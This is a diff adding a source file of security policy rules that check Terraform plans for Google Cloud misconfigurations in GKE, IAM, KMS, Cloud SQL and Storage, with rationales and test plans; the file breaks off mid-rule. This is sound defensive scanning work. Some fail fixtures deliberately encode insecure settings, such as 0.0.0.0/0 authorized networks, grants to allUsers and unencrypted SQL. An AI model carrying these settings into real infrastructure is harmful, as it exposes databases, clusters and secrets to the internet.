+                         "private_cluster_config": [{"enable_private_nodes": true, "enable_private_endpoint": true, "master_ipv4_cidr_block": "172.16.0.0/28"}],
+                         "master_authorized_networks_config": []}}}]}
+        """
+        example fail "none" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_container_cluster.main", "mode": "managed", "type": "google_container_cluster", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "endpoint": true},
+               "after": {"name": "acme-gke", "location": "europe-west1", "private_cluster_config": [],
+                         "master_authorized_networks_config": ↓[]}}}]}
+        """ expect "'google_container_cluster.main' accepts Kubernetes API connections from any IP address"
+        example fail "whole internet authorized" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_container_cluster.main", "mode": "managed", "type": "google_container_cluster", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "endpoint": true},
+               "after": {"name": "acme-gke", "location": "europe-west1", "private_cluster_config": [],
+                         "master_authorized_networks_config": [{"cidr_blocks": [{"cidr_block": ↓"0.0.0.0/0", "display_name": "all"}]}]}}}]}
+        """ expect "authorizes '0.0.0.0/0' to reach its control plane"
+        example indeterminate "networks known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_container_cluster.main", "mode": "managed", "type": "google_container_cluster", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acme-gke", "location": "europe-west1", "private_cluster_config": []},
+               "after_unknown": {"id": true, "endpoint": true, "master_authorized_networks_config": true}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/gcp/gcp_gke_private_nodes_disabled.plumb",
+      text: #"""
+      rule gcp_gke_private_nodes_disabled {
+        title "GKE nodes have no public IP addresses"
+        severity medium
+        category security
+        tags [terraform, gcp, gke, kubernetes, network]
+        rationale """
+          Without private nodes every GKE node gets an external IP address. The kubelet, NodePorts,
+          `hostNetwork` pods and anything listening on the node are then one firewall mistake away from
+          the internet, and nodes can reach the internet directly, which makes data exfiltration from a
+          compromised pod trivial. Private nodes have internal addresses only and go out through Cloud NAT.
+        """
+        remediation """
+          Add `private_cluster_config { enable_private_nodes = true  master_ipv4_cidr_block = "…" }` to
+          the `google_container_cluster` (with Cloud NAT for egress); changing it recreates the cluster.
+        """
+
+        for c in terraform.resource("google_container_cluster")
+        when not is_null(c.after)
+        # Computed when not written: public nodes.
+        let pcc = c.after.private_cluster_config
+        let pcc_unset = is_unknown(pcc) and exists(c.config) and not exists(c.config.private_cluster_config)
+        require not pcc_unset and first(pcc).enable_private_nodes == true
+          else "'${c.address}' gives its nodes public IP addresses: private_cluster_config.enable_private_nodes is not true"
+          at default(first(pcc).enable_private_nodes, pcc)
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_container_cluster.main", "mode": "managed", "type": "google_container_cluster", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "endpoint": true},
+               "after": {"name": "acme-gke", "location": "europe-west1",
+                         "private_cluster_config": [{"enable_private_nodes": true, "enable_private_endpoint": false, "master_ipv4_cidr_block": "172.16.0.0/28"}]}}}]}
+        """
+        example fail "no private cluster config" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_container_cluster.main", "mode": "managed", "type": "google_container_cluster", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "endpoint": true},
+               "after": {"name": "acme-gke", "location": "europe-west1", "private_cluster_config": ↓[]}}}]}
+        """ expect "'google_container_cluster.main' gives its nodes public IP addresses"
+        example fail "private nodes off" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_container_cluster.main", "mode": "managed", "type": "google_container_cluster", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "endpoint": true},
+               "after": {"name": "acme-gke", "location": "europe-west1",
+                         "private_cluster_config": [{"enable_private_nodes": ↓false, "enable_private_endpoint": false}]}}}]}
+        """ expect "enable_private_nodes is not true"
+        example indeterminate "setting known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_container_cluster.main", "mode": "managed", "type": "google_container_cluster", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acme-gke", "location": "europe-west1", "private_cluster_config": [{"enable_private_endpoint": false}]},
+               "after_unknown": {"id": true, "endpoint": true, "private_cluster_config": [{"enable_private_nodes": true}]}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/gcp/gcp_gke_shielded_nodes_disabled.plumb",
+      text: #"""
+      rule gcp_gke_shielded_nodes_disabled {
+        title "GKE clusters use Shielded GKE Nodes"
+        severity medium
+        category security
+        tags [terraform, gcp, gke, kubernetes]
+        rationale """
+          Shielded GKE Nodes give every node a verifiable identity (vTPM) and secure boot. Without them,
+          an attacker who gets code execution in a pod and reads the node's bootstrap credentials from
+          the metadata server can impersonate a node, register rogue kubelets and obtain the secrets of
+          any pod; boot-level rootkits also go undetected.
+        """
+        remediation "Remove `enable_shielded_nodes = false` from the `google_container_cluster` (true is the default since provider 4.0)."
+
+        for c in terraform.resource("google_container_cluster")
+        when not is_null(c.after)
+        require c.after.enable_shielded_nodes != false
+          else "'${c.address}' disables Shielded GKE Nodes (enable_shielded_nodes = false)"
+          at c.after.enable_shielded_nodes
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_container_cluster.main", "mode": "managed", "type": "google_container_cluster", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "endpoint": true},
+               "after": {"name": "acme-gke", "location": "europe-west1", "enable_shielded_nodes": true}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_container_cluster.main", "mode": "managed", "type": "google_container_cluster", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "endpoint": true},
+               "after": {"name": "acme-gke", "location": "europe-west1", "enable_shielded_nodes": ↓false}}}]}
+        """ expect "'google_container_cluster.main' disables Shielded GKE Nodes"
+        example indeterminate "setting known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_container_cluster.main", "mode": "managed", "type": "google_container_cluster", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acme-gke", "location": "europe-west1"}, "after_unknown": {"id": true, "endpoint": true, "enable_shielded_nodes": true}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/gcp/gcp_iam_public_principal.plumb",
+      text: #"""
+      rule gcp_iam_public_principal {
+        title "Projects, folders, keys, secrets and topics are not granted to allUsers or allAuthenticatedUsers"
+        severity critical
+        category security
+        tags [terraform, gcp, iam, public-access]
+        rationale """
+          `allUsers` means anyone on the internet and `allAuthenticatedUsers` anyone with a Google
+          account (free to create). Granted on a project, folder or organization they hand the role over
+          every resource inside; on a KMS key, secret, Pub/Sub topic or service account they expose key
+          material, credentials and messages or let strangers impersonate the workload. Google refuses
+          some of these grants at apply time, which only moves the failure from review to deployment.
+        """
+        remediation """
+          Remove `allUsers`/`allAuthenticatedUsers` from the IAM member, binding or policy and grant the
+          role to the specific groups or service accounts that need it. The organization policy
+          `iam.allowedPolicyMemberDomains` (domain-restricted sharing) blocks such grants everywhere.
+        """
+        param public_principals: list<string> = ["allUsers", "allAuthenticatedUsers"]
+
+        for m in terraform.resource(
+          "google_project_iam_member", "google_project_iam_binding", "google_project_iam_policy",
+          "google_folder_iam_member", "google_folder_iam_binding", "google_folder_iam_policy",
+          "google_organization_iam_member", "google_organization_iam_binding", "google_organization_iam_policy",
+          "google_kms_crypto_key_iam_member", "google_kms_crypto_key_iam_binding", "google_kms_crypto_key_iam_policy",
+          "google_kms_key_ring_iam_member", "google_kms_key_ring_iam_binding", "google_kms_key_ring_iam_policy",
+          "google_secret_manager_secret_iam_member", "google_secret_manager_secret_iam_binding", "google_secret_manager_secret_iam_policy",
+          "google_pubsub_topic_iam_member", "google_pubsub_topic_iam_binding", "google_pubsub_topic_iam_policy",
+          "google_pubsub_subscription_iam_member", "google_pubsub_subscription_iam_binding", "google_pubsub_subscription_iam_policy",
+          "google_service_account_iam_member", "google_service_account_iam_binding", "google_service_account_iam_policy")
+        when not is_null(m.after)
+        let public = filter(x in flatten([[m.after.member], default(m.after.members, [])]), trim(x) in param.public_principals)
+        require count(public) == 0
+          else "'${m.address}' grants '${m.after.role}' to '${first(public)}'"
+          at first(public)
+        require not (m.after.policy_data matches "\"(allUsers|allAuthenticatedUsers)\"")
+          else "'${m.address}' grants a role to allUsers or allAuthenticatedUsers in its policy_data"
+          at m.after.policy_data
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_project_iam_binding.editors", "mode": "managed", "type": "google_project_iam_binding", "name": "editors",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "etag": true, "members": [false]},
+               "after": {"project": "acme-prod", "role": "roles/editor", "members": ["group:platform@acme.example"]}}}]}
+        """
+        example fail "project binding" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_project_iam_binding.viewers", "mode": "managed", "type": "google_project_iam_binding", "name": "viewers",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "etag": true, "members": [false, false]},
+               "after": {"project": "acme-prod", "role": "roles/viewer", "members": ["group:platform@acme.example", ↓"allAuthenticatedUsers"]}}}]}
+        """ expect "'google_project_iam_binding.viewers' grants 'roles/viewer' to 'allAuthenticatedUsers'"
+        example fail "KMS key member" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_kms_crypto_key_iam_member.decrypt", "mode": "managed", "type": "google_kms_crypto_key_iam_member", "name": "decrypt",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "etag": true},
+               "after": {"crypto_key_id": "projects/acme-prod/locations/global/keyRings/kr/cryptoKeys/k", "role": "roles/cloudkms.cryptoKeyDecrypter", "member": ↓"allUsers", "condition": []}}}]}
+        """ expect "grants 'roles/cloudkms.cryptoKeyDecrypter' to 'allUsers'"
+        example fail "policy document" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_secret_manager_secret_iam_policy.p", "mode": "managed", "type": "google_secret_manager_secret_iam_policy", "name": "p",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "etag": true},
+               "after": {"secret_id": "db-password", "policy_data": ↓"{\"bindings\":[{\"members\":[\"allAuthenticatedUsers\"],\"role\":\"roles/secretmanager.secretAccessor\"}]}"}}}]}
+        """ expect "in its policy_data"
+        example indeterminate "members known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_project_iam_binding.viewers", "mode": "managed", "type": "google_project_iam_binding", "name": "viewers",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"project": "acme-prod", "role": "roles/viewer"}, "after_unknown": {"id": true, "etag": true, "members": true}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/gcp/gcp_kms_key_rotation.plumb",
+      text: #"""
+      rule gcp_kms_key_rotation {
+        title "Cloud KMS keys rotate at least every 90 days"
+        severity medium
+        category security
+        tags [terraform, gcp, kms, encryption]
+        rationale """
+          A symmetric key without automatic rotation encrypts everything with the same key version for
+          its whole life: if the material leaks, or the cipher weakens, all data ever written is exposed,
+          and revoking it means re-encrypting everything at once. Rotation every 90 days or less (CIS GCP
+          1.10, PCI DSS) limits what one key version protects; old versions stay available to decrypt,
+          so rotation breaks nothing.
+        """
+        remediation """
+          Set `rotation_period = "7776000s"` (90 days) or shorter on the `google_kms_crypto_key`.
+          Asymmetric, MAC and import-only keys cannot rotate automatically and are not checked.
+        """
+        param max_rotation_days: int = 90
+
+        for k in terraform.resource("google_kms_crypto_key")
+        when not is_null(k.after)
+        # Automatic rotation exists for symmetric encryption keys only.
+        when default(k.after.purpose, "ENCRYPT_DECRYPT") == "ENCRYPT_DECRYPT"
+        # Keys whose material is imported cannot rotate automatically; `import_only` is computed
+        # (false) when not written.
+        when k.after.import_only != true
+          or (is_unknown(k.after.import_only) and exists(k.config) and not exists(k.config.import_only))
+        let period = k.after.rotation_period
+        # "7776000s" (a protobuf duration) in seconds; fractions of a second are dropped.
+        let seconds = to_int(first(split(replace(trim(period), "s", ""), ".")))
+        require not is_empty(period)
+          else "'${k.address}' is never rotated automatically: rotation_period is not set"
+          at period
+          fix { set k.after.rotation_period = to_string(param.max_rotation_days * 86400) + "s" }
+        require is_empty(period) or seconds <= param.max_rotation_days * 86400
+          else "'${k.address}' rotates every ${period}, more than ${param.max_rotation_days} days (${param.max_rotation_days * 86400}s)"
+          at period
+          fix { set k.after.rotation_period = to_string(param.max_rotation_days * 86400) + "s" }
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_kms_crypto_key.data", "mode": "managed", "type": "google_kms_crypto_key", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "key_ring": true},
+               "after": {"name": "data", "purpose": "ENCRYPT_DECRYPT", "rotation_period": "7776000s"}}}]}
+        """
+        example pass "asymmetric signing key" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_kms_crypto_key.signing", "mode": "managed", "type": "google_kms_crypto_key", "name": "signing",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "key_ring": true},
+               "after": {"name": "signing", "purpose": "ASYMMETRIC_SIGN", "rotation_period": null}}}]}
+        """
+        example fail "no rotation" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_kms_crypto_key.data", "mode": "managed", "type": "google_kms_crypto_key", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "key_ring": true},
+               "after": {"name": "data", "purpose": "ENCRYPT_DECRYPT", "rotation_period": ↓null}}}]}
+        """ expect "'google_kms_crypto_key.data' is never rotated automatically: rotation_period is not set"
+        example fail "a year" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_kms_crypto_key.data", "mode": "managed", "type": "google_kms_crypto_key", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "key_ring": true},
+               "after": {"name": "data", "purpose": "ENCRYPT_DECRYPT", "rotation_period": ↓"31536000s"}}}]}
+        """ expect "'google_kms_crypto_key.data' rotates every 31536000s, more than 90 days (7776000s)"
+        example indeterminate "period known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_kms_crypto_key.data", "mode": "managed", "type": "google_kms_crypto_key", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "data", "purpose": "ENCRYPT_DECRYPT"}, "after_unknown": {"id": true, "key_ring": true, "rotation_period": true}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/gcp/gcp_sql_backups_disabled.plumb",
+      text: #"""
+      rule gcp_sql_backups_disabled {
+        title "Cloud SQL instances have automated backups"
+        severity medium
+        category security
+        tags [terraform, gcp, sql, database, recovery]
+        rationale """
+          Without automated backups (off by default in the Google provider) a dropped table, a bad
+          migration, a ransomware `DELETE` or a corrupted disk is unrecoverable: there is no point in time
+          to restore to, and point-in-time recovery needs backups too. Read replicas copy mistakes
+          instantly and are no substitute.
+        """
+        remediation """
+          Add `settings { backup_configuration { enabled = true } }` (plus `point_in_time_recovery_enabled`
+          or `binary_log_enabled` for MySQL) to the `google_sql_database_instance`. Read replicas, which
+          cannot have backups, are not checked.
+        """
+
+        for db in terraform.resource("google_sql_database_instance")
+        when not is_null(db.after)
+        # Replicas take no backups of their own. `master_instance_name` is computed when not written.
+        when is_empty(db.after.master_instance_name)
+          or (is_unknown(db.after.master_instance_name) and exists(db.config) and not exists(db.config.master_instance_name))
+        let bc_list = first(db.after.settings).backup_configuration
+        # Computed when not written: backups disabled.
+        let bc_unset = is_unknown(bc_list) and exists(db.config) and not exists(first(db.config.settings).backup_configuration)
+        require not bc_unset and first(bc_list).enabled == true
+          else "'${db.address}' has no automated backups (settings.backup_configuration.enabled is not true)"
+          at first(bc_list).enabled
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_sql_database_instance.main", "mode": "managed", "type": "google_sql_database_instance", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "master_instance_name": true},
+               "after": {"name": "acme-pg", "database_version": "POSTGRES_15", "settings": [{"tier": "db-custom-2-7680",
+                 "backup_configuration": [{"enabled": true, "point_in_time_recovery_enabled": true, "start_time": "02:00"}]}]}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "google_sql_database_instance.main", "mode": "managed", "type": "google_sql_database_instance", "name": "main",
+             "expressions": {"name": {"constant_value": "acme-pg"}, "settings": [{"tier": {"constant_value": "db-custom-2-7680"},
+               "backup_configuration": [{"enabled": {"constant_value": true}, "point_in_time_recovery_enabled": {"constant_value": true}}]}]}}]}}}
+        """
+        example pass "read replica" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_sql_database_instance.replica", "mode": "managed", "type": "google_sql_database_instance", "name": "replica",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
+               "after": {"name": "acme-pg-replica", "master_instance_name": "acme-pg", "database_version": "POSTGRES_15",
+                 "settings": [{"tier": "db-custom-2-7680", "backup_configuration": [{"enabled": false}]}]}}}]}
+        """
+        example fail "disabled" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_sql_database_instance.main", "mode": "managed", "type": "google_sql_database_instance", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
+               "after": {"name": "acme-pg", "master_instance_name": null, "database_version": "POSTGRES_15", "settings": [{"tier": "db-custom-2-7680",
+                 "backup_configuration": [{"enabled": ↓false}]}]}}}]}
+        """ expect "'google_sql_database_instance.main' has no automated backups"
+        example fail "not written" """
+          {"format_version": "1.2", "resource_changes": [
+            ↓{"address": "google_sql_database_instance.main", "mode": "managed", "type": "google_sql_database_instance", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acme-pg", "database_version": "POSTGRES_15", "settings": [{"tier": "db-f1-micro"}]},
+               "after_unknown": {"id": true, "master_instance_name": true, "settings": [{"backup_configuration": true, "ip_configuration": true}]}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "google_sql_database_instance.main", "mode": "managed", "type": "google_sql_database_instance", "name": "main",
+             "expressions": {"name": {"constant_value": "acme-pg"}, "settings": [{"tier": {"constant_value": "db-f1-micro"}}]}}]}}}
+        """ expect "has no automated backups"
+        example indeterminate "setting known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_sql_database_instance.main", "mode": "managed", "type": "google_sql_database_instance", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acme-pg", "master_instance_name": null, "database_version": "POSTGRES_15", "settings": [{"tier": "db-f1-micro", "backup_configuration": [{}]}]},
+               "after_unknown": {"id": true, "settings": [{"backup_configuration": [{"enabled": true}]}]}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/gcp/gcp_sql_open_to_world.plumb",
+      text: #"""
+      rule gcp_sql_open_to_world {
+        title "Cloud SQL instances do not authorize the whole internet"
+        severity critical
+        category security
+        tags [terraform, gcp, sql, database, network]
+        rationale """
+          An authorized network of `0.0.0.0/0` on an instance with a public IPv4 address lets every host
+          on the internet open a connection to the database port. The instance is then one weak or
+          leaked password (or one database-engine vulnerability) away from a breach, and database ports
+          are constantly scanned and brute-forced.
+        """
+        remediation """
+          Remove `0.0.0.0/0` from `settings.ip_configuration.authorized_networks`; list only the client
+          ranges that need access, or set `ipv4_enabled = false` with a `private_network` and connect
+          through the Cloud SQL Auth Proxy or private IP.
+        """
+        param open_ranges: list<string> = ["0.0.0.0/0", "0.0.0.0", "::/0"]
+
+        for db in terraform.resource("google_sql_database_instance")
+        when not is_null(db.after)
+        let ipc_list = first(db.after.settings).ip_configuration
+        # Computed when not written: public IPv4 without authorized networks.
+        let ipc_unset = is_unknown(ipc_list) and exists(db.config) and not exists(first(db.config.settings).ip_configuration)
+        let ipc = first(ipc_list)
+        let open = filter(n in ipc.authorized_networks, trim(n.value) in param.open_ranges)
+        require ipc_unset or ipc.ipv4_enabled == false or count(open) == 0
+          else "'${db.address}' authorizes '${first(open).value}' (authorized network '${first(open).name}') on its public IP: any host on the internet can connect"
+          at first(open).value
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_sql_database_instance.main", "mode": "managed", "type": "google_sql_database_instance", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "public_ip_address": true},
+               "after": {"name": "acme-pg", "database_version": "POSTGRES_15", "settings": [{"tier": "db-custom-2-7680",
+                 "ip_configuration": [{"ipv4_enabled": true, "ssl_mode": "ENCRYPTED_ONLY",
+                   "authorized_networks": [{"name": "office", "value": "203.0.113.0/24", "expiration_time": null}]}]}]}}}]}
+        """
+        example pass "private IP only" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_sql_database_instance.main", "mode": "managed", "type": "google_sql_database_instance", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "private_ip_address": true},
+               "after": {"name": "acme-pg", "database_version": "POSTGRES_15", "settings": [{"tier": "db-custom-2-7680",
+                 "ip_configuration": [{"ipv4_enabled": false, "private_network": "projects/acme/global/networks/vpc",
+                   "authorized_networks": [{"name": "legacy", "value": "0.0.0.0/0", "expiration_time": null}]}]}]}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_sql_database_instance.main", "mode": "managed", "type": "google_sql_database_instance", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "public_ip_address": true},
+               "after": {"name": "acme-pg", "database_version": "POSTGRES_15", "settings": [{"tier": "db-custom-2-7680",
+                 "ip_configuration": [{"ipv4_enabled": true,
+                   "authorized_networks": [{"name": "everyone", "value": ↓"0.0.0.0/0", "expiration_time": null}]}]}]}}}]}
+        """ expect "'google_sql_database_instance.main' authorizes '0.0.0.0/0' (authorized network 'everyone') on its public IP"
+        example indeterminate "authorized networks known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_sql_database_instance.main", "mode": "managed", "type": "google_sql_database_instance", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acme-pg", "database_version": "POSTGRES_15", "settings": [{"tier": "db-custom-2-7680",
+                 "ip_configuration": [{"ipv4_enabled": true, "authorized_networks": [{"name": "ci"}]}]}]},
+               "after_unknown": {"id": true, "public_ip_address": true,
+                 "settings": [{"ip_configuration": [{"authorized_networks": [{"value": true}]}]}]}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/gcp/gcp_sql_ssl_not_enforced.plumb",
+      text: #"""
+      rule gcp_sql_ssl_not_enforced {
+        title "Cloud SQL instances accept encrypted connections only"
+        severity medium
+        category security
+        tags [terraform, gcp, sql, database, "encryption-in-transit"]
+        rationale """
+          By default Cloud SQL accepts unencrypted connections on its IP addresses (`ssl_mode =
+          ALLOW_UNENCRYPTED_AND_ENCRYPTED`). Clients that connect directly, rather than through the
+          Auth Proxy or a connector, then send database passwords and query results in clear text to
+          anyone on the path, and many drivers fall back to plain connections silently.
+        """
+        remediation """
+          Set `settings { ip_configuration { ssl_mode = "ENCRYPTED_ONLY" } }` (or
+          `TRUSTED_CLIENT_CERTIFICATE_REQUIRED`; provider versions before 5.x: `require_ssl = true`) on
+          the `google_sql_database_instance`.
+        """
+        param enforced_modes: list<string> = ["ENCRYPTED_ONLY", "TRUSTED_CLIENT_CERTIFICATE_REQUIRED"]
+
+        for db in terraform.resource("google_sql_database_instance")
+        when not is_null(db.after)
+        let ipc_list = first(db.after.settings).ip_configuration
+        let ipc_config = first(first(db.config.settings).ip_configuration)
+        # Computed when not written: unencrypted connections allowed.
+        let ipc_unset = is_unknown(ipc_list) and exists(db.config) and not exists(first(db.config.settings).ip_configuration)
+        let ipc = first(ipc_list)
+        let mode_unset = is_unknown(ipc.ssl_mode) and exists(db.config) and not exists(ipc_config.ssl_mode)
+        require not ipc_unset and (ipc.require_ssl == true or (not mode_unset and ipc.ssl_mode in param.enforced_modes))
+          else "'${db.address}' accepts unencrypted connections: neither ssl_mode ENCRYPTED_ONLY/TRUSTED_CLIENT_CERTIFICATE_REQUIRED nor require_ssl is set"
+          at default(ipc.ssl_mode, ipc.require_ssl)
+
+        example pass "ssl_mode" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_sql_database_instance.main", "mode": "managed", "type": "google_sql_database_instance", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
+               "after": {"name": "acme-pg", "database_version": "POSTGRES_15", "settings": [{"tier": "db-custom-2-7680",
+                 "ip_configuration": [{"ipv4_enabled": false, "ssl_mode": "ENCRYPTED_ONLY", "authorized_networks": []}]}]}}}]}
+        """
+        example pass "require_ssl (provider 4.x)" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_sql_database_instance.main", "mode": "managed", "type": "google_sql_database_instance", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
+               "after": {"name": "acme-pg", "database_version": "POSTGRES_13", "settings": [{"tier": "db-f1-micro",
+                 "ip_configuration": [{"ipv4_enabled": true, "require_ssl": true, "authorized_networks": []}]}]}}}]}
+        """
+        example fail "unencrypted allowed" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_sql_database_instance.main", "mode": "managed", "type": "google_sql_database_instance", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
+               "after": {"name": "acme-pg", "database_version": "POSTGRES_15", "settings": [{"tier": "db-custom-2-7680",
+                 "ip_configuration": [{"ipv4_enabled": true, "ssl_mode": ↓"ALLOW_UNENCRYPTED_AND_ENCRYPTED", "authorized_networks": []}]}]}}}]}
+        """ expect "'google_sql_database_instance.main' accepts unencrypted connections"
+        example fail "ip_configuration not written" """
+          {"format_version": "1.2", "resource_changes": [
+            ↓{"address": "google_sql_database_instance.main", "mode": "managed", "type": "google_sql_database_instance", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acme-pg", "database_version": "POSTGRES_15", "settings": [{"tier": "db-f1-micro"}]},
+               "after_unknown": {"id": true, "settings": [{"ip_configuration": true, "backup_configuration": true}]}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "google_sql_database_instance.main", "mode": "managed", "type": "google_sql_database_instance", "name": "main",
+             "expressions": {"name": {"constant_value": "acme-pg"}, "settings": [{"tier": {"constant_value": "db-f1-micro"}}]}}]}}}
+        """ expect "accepts unencrypted connections"
+        example indeterminate "ssl mode from a variable known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "google_sql_database_instance.main", "mode": "managed", "type": "google_sql_database_instance", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/google",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acme-pg", "database_version": "POSTGRES_15", "settings": [{"tier": "db-f1-micro",
+                 "ip_configuration": [{"ipv4_enabled": true, "authorized_networks": []}]}]},
+               "after_unknown": {"id": true, "settings": [{"ip_configuration": [{"ssl_mode": true}]}]}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/gcp/gcp_storage_bucket_public_access_prevention.plumb",
+      text: #"""
+      rule gcp_storage_bucket_public_access_prevention {
+        title "Cloud Storage buckets enforce public access prevention"
+        severity medium
+        category security
+        tags [terraform, gcp, storage, public-access]
+        rationale """
+          Public access prevention makes Cloud Storage refuse any IAM binding or ACL that names
+          `allUsers` or `allAuthenticatedUsers`, and stops serving existing ones. Without it (`inherited`,
+          the default) one mistaken `google_storage_bucket_iam_member` or object ACL publishes the data,
+          unless an organization policy happens to enforce prevention; the bucket itself gives no
+          guarantee.
+        """
+        remediation """
+          Set `public_access_prevention = "enforced"` on the `google_storage_bucket` (buckets that really
+          serve public content belong in a separate project, or behind Cloud CDN with signed URLs).
+        """
+
